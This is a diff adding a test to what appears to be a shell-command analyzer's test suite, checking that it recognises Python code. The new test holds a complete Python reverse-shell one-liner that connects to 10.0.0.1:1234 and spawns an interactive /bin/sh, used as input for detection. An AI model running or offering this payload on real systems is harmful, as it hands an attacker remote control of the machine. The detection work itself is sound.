@@ -178,6 +178,19 @@ describe('interpreters: Python code (tree-sitter-python)', () => {
     }
   });
 
+  it('turns a socket plus a shell into the canonical reverse shell (GTFOBins python reverse shell)', async () => {
+    const text =
+      `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);` +
+      `s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])'`;
+    const a = await analyze(text);
+    const rev = a.commands.find((c) => c.redirects.some((r) => r.target === '/dev/tcp/10.0.0.1/1234'));
+    assert.deepEqual(
+      rev?.argv.map((w) => w.value),
+      ['sh', '-i'],
+    );
+    assert.equal(text.slice(rev?.span.start, rev?.span.end), 's.connect(("10.0.0.1",1234))');
+  });
+
   it('does not crash on deeply nested code', async () => {
     const deep = `python -c 'import os; os.system(${'('.repeat(3000)}"ls"${')'.repeat(3000)} + ${'"a" + '.repeat(3000)}"b")'`;
     const a = await analyze(deep);
